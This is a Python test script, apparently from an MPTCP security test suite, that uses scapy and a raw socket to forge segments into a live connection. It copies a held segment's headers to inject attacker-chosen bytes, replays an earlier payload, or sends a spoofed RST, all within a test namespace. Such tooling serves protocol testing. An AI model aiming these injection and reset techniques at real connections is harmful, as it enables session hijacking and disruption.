#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0
"""Forge segments into a live connection (scapy), for the attack tests.

  attack.py inject DIR [--text TEXT]
  attack.py replay DIR
  attack.py rst DIR

Runs in the router namespace next to mptcpsec-nfq --hold DIR, which keeps
the next data segment of the connection (DIR/held.pkt) until DIR/release
exists.  This program waits for held.pkt, takes addresses, ports, sequence
and acknowledgement numbers and MPTCP options from it, sends its forged
segment towards the same destination through a raw socket, then creates
DIR/release so that the genuine segment follows (and arrives as a
duplicate):

  inject  the held segment's headers (TCP seq, DSS mapping) with
          attacker-chosen bytes as payload, same length
  replay  the held segment's headers with the payload of an earlier
          genuine segment of the same connection (DIR/old.pkt, recorded by
          mptcpsec-nfq --record-at), cut to the same length
  rst     a bare RST (no options) with the held segment's seq, IP ID
          0xa77c and TOS 0x28 (MARK) so that the receiver can count its
          arrival

Prints one "attack: ..." line; exit status 0 when the segment was sent.
"""
import os
import socket
import struct
import sys
import time

# scapy.all takes many seconds to import under TCG: only what is needed
from scapy.layers.inet import IP, TCP
from scapy.utils import checksum

WAIT_SEC = 240
MARK = dict(id=0xa77c, tos=0x28)


def wait_for(path, secs):
    end = time.monotonic() + secs
    while not os.path.exists(path):
        if time.monotonic() > end:
            return False
        time.sleep(0.01)
    return True


def forge(mode, held, old, text):
    pkt = IP(held)
    tcp = pkt[TCP]
    plen = len(bytes(tcp.payload))
    if mode == 'rst':
        new = IP(src=pkt.src, dst=pkt.dst, ttl=pkt.ttl, **MARK) / \
            TCP(sport=tcp.sport, dport=tcp.dport, seq=tcp.seq, ack=tcp.ack,
                flags='RA', window=tcp.window)
        return new, 0
    if mode == 'inject':
        body = (text * (plen // len(text) + 1))[:plen]
    else:
        ob = bytes(IP(old)[TCP].payload)
        body = (ob * (plen // max(len(ob), 1) + 1))[:plen]
    # the held segment's IP and TCP headers byte for byte (options, DSS
    # mapping: never re-encoded), the new payload, checksums recomputed
    hlen = pkt.ihl * 4 + tcp.dataofs * 4
    raw = bytearray(held[:hlen] + body)
    struct.pack_into('!H', raw, 2, len(raw))
    struct.pack_into('!H', raw, 4, (pkt.id + 7) & 0xffff)
    struct.pack_into('!H', raw, 10, 0)
    struct.pack_into('!H', raw, 10, checksum(bytes(raw[:pkt.ihl * 4])))
    seg = raw[pkt.ihl * 4:]
    struct.pack_into('!H', seg, 16, 0)
    pseudo = held[12:20] + struct.pack('!BBH', 0, 6, len(seg))
    struct.pack_into('!H', seg, 16, checksum(pseudo + bytes(seg)))
    raw[pkt.ihl * 4:] = seg
    return IP(bytes(raw)), plen


def main():
    if len(sys.argv) < 3 or sys.argv[1] not in ('inject', 'replay', 'rst'):
        sys.exit(__doc__)
    mode, d = sys.argv[1], sys.argv[2]
    text = b'MPTCPSEC-ATTACK-INJECTED-'
    if '--text' in sys.argv:
        text = sys.argv[sys.argv.index('--text') + 1].encode()
    print(f'attack: {mode} ready t={time.monotonic():.6f}', flush=True)
    held_p, rel = os.path.join(d, 'held.pkt'), os.path.join(d, 'release')
    try:
        if not wait_for(held_p, WAIT_SEC):
            print(f'attack: {mode} no held segment after {WAIT_SEC}s', flush=True)
            return 1
        with open(held_p, 'rb') as f:
            held = f.read()
        old = None
        if mode == 'replay':
            with open(os.path.join(d, 'old.pkt'), 'rb') as f:
                old = f.read()
        new, plen = forge(mode, held, old, text)
        raw = bytes(new)
        s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        s.sendto(raw, (new[IP].dst, 0))
        s.close()
        t = time.monotonic()
        extra = ''
        if mode == 'replay':
            extra = f' replayed_seq={IP(old)[TCP].seq}'
        print(f'attack: {mode} sent t={t:.6f} {new[IP].src}:{new[TCP].sport}'
              f' > {new[IP].dst}:{new[TCP].dport} seq={new[TCP].seq}'
              f' ack={new[TCP].ack} flags={new[TCP].flags} payload={plen}'
              f'{extra}', flush=True)
    finally:
        open(rel, 'w').close()
    return 0


if __name__ == '__main__':
    sys.exit(main())
